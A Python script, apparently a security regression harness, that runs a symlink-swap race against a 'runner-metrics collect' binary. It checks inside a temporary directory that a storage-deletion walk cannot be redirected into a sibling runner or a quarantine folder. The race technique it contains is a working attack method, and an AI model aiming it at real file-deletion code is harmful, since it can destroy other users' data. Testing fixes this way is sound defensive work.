#!/usr/bin/env python3
"""An attacker's script, written apart from the Rust tests: the symlink swap
of issue 9 against the real `runner-metrics collect` binary.

A job keeps a descriptor on its own storage (as a bind mount lets it). It
fills a subdirectory `sub` with junk and waits, polling with plain
`listdir` (no inotify), until the junk starts to disappear: the manager is
deleting the storage. Then it renames `sub` away and puts `sub -> ../..`
(the storage root, seen from `.deleting/<storage>.<t>/`) in its place. A
walk that resolved `sub/<child>` by path would then empty `<root>/<child>`:
a sibling runner (here `victim`, excluded from the run) or `.quarantine`.

Everything happens under one fresh temporary directory; run it as an
unprivileged user:

    setpriv --reuid=65534 --regid=65534 --clear-groups -- \\
        python3 scripts/attack/symlink_swap.py target/debug/runner-metrics 20

Exits 0 when every round left the victim and the quarantine unchanged, 1
otherwise, and prints one line per round.
"""

import json
import os
import subprocess
import sys
import tempfile
import time

FILES = {
    "runner-installation-start.timestamp": "1700000000\n",
    "runner-installed.timestamp": "1700000060\n",
    "pre-job-metrics.json": json.dumps(
        {"workflow": "ci", "repository": "o/r", "event": "push", "timestamp": 1700000100, "workflow_run_id": "1"}
    ),
    "post-job-metrics.json": json.dumps({"timestamp": 1700000400, "status": "normal"}),
}


def tree(path):
    """Every entry below `path` (relative name, kind, content)."""
    out = []
    for top, dirs, files in os.walk(path):
        for name in sorted(dirs + files):
            full = os.path.join(top, name)
            rel = os.path.relpath(full, path)
            if os.path.islink(full):
                out.append((rel, "link", os.readlink(full)))
            elif os.path.isdir(full):
                out.append((rel, "dir", ""))
            else:
                with open(full, "rb") as f:
                    out.append((rel, "file", f.read()))
    return sorted(out)


def storage(path, child=None):
    os.mkdir(path)
    for name, text in FILES.items():
        with open(os.path.join(path, name), "w") as f:
            f.write(text)


def attacker(evil, target, child):
    """Forked: waits for the junk in `evil/sub`'s sibling files to go, then swaps."""
    fd = os.open(evil, os.O_RDONLY | os.O_DIRECTORY)
    start = len(os.listdir(fd))
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            if len(os.listdir(fd)) < start:
                break
        except OSError:
            break
    else:
        os._exit(2)
    try:
        os.rename("sub", "sub.moved", src_dir_fd=fd, dst_dir_fd=fd)
        os.symlink(target, "sub", dir_fd=fd)
    except OSError:
        os._exit(3)
    os._exit(0)


def round_(binary, child, n):
    with tempfile.TemporaryDirectory(prefix="attack-swap-") as tmp:
        # Two levels of slack above the root: even a walk that climbed one
        # level too far would stay inside this temporary directory.
        root = os.path.join(tmp, "a", "b", "root")
        os.makedirs(root)
        storage(os.path.join(root, "victim"))
        quarantine = os.path.join(root, ".quarantine")
        os.makedirs(os.path.join(quarantine, "old.1700000000.000000"))
        with open(os.path.join(quarantine, "old.1700000000.000000", "pre-job-metrics.json"), "w") as f:
            f.write("evidence")
        with open(os.path.join(quarantine, "old.1700000000.000000.reason.json"), "w") as f:
            json.dump(
                {
                    "runner_name": "old",
                    "reason": "invalid-json",
                    "file": None,
                    "detail": "kept",
                    "quarantined_at": 1700000000.0,
                },
                f,
            )
        evil = os.path.join(root, "evil")
        storage(evil)
        os.makedirs(os.path.join(evil, "sub", child))
        for i in range(20):
            with open(os.path.join(evil, "sub", child, f"own{i}"), "w") as f:
                f.write("mine")
        for i in range(3000):
            with open(os.path.join(evil, f"junk{i:04}"), "w") as f:
                f.write("junk")
        before = {"victim": tree(os.path.join(root, "victim")), ".quarantine": tree(quarantine)}
        pid = os.fork()
        if pid == 0:
            attacker(evil, "../..", child)
        log = os.path.join(tmp, "metrics.log")
        run = subprocess.run(
            [
                binary,
                "--no-cache",
                "collect",
                "--storage",
                root,
                "--flavor",
                "small",
                "--exclude",
                "victim",
                "--metrics-log",
                log,
            ],
            capture_output=True,
            text=True,
            timeout=300,
        )
        _, status = os.waitpid(pid, 0)
        swapped = os.waitstatus_to_exitcode(status) == 0
        after = {
            "victim": tree(os.path.join(root, "victim")) if os.path.isdir(os.path.join(root, "victim")) else None,
            ".quarantine": tree(quarantine) if os.path.isdir(quarantine) else None,
        }
        damaged = [name for name in before if before[name] != after[name]]
        gone = not os.path.exists(evil)
        print(
            f"round {n} child={child!r}: swap {'fired' if swapped else 'did not fire'}, exit {run.returncode}, "
            f"evil {'deleted' if gone else 'kept'}, damaged: {damaged or 'nothing'}"
        )
        if damaged:
            print(run.stderr[-2000:])
        return not damaged, swapped


def main():
    binary = os.path.abspath(sys.argv[1])
    rounds = int(sys.argv[2]) if len(sys.argv) > 2 else 10
    ok, fired = True, 0
    for n in range(rounds):
        child = "victim" if n % 2 == 0 else ".quarantine"
        safe, swapped = round_(binary, child, n)
        ok &= safe
        fired += swapped
    print(f"{rounds} rounds, the swap fired in {fired}: {'nothing reached' if ok else 'DAMAGE'}")
    sys.exit(0 if ok and fired > 0 else 1)


if __name__ == "__main__":
    main()
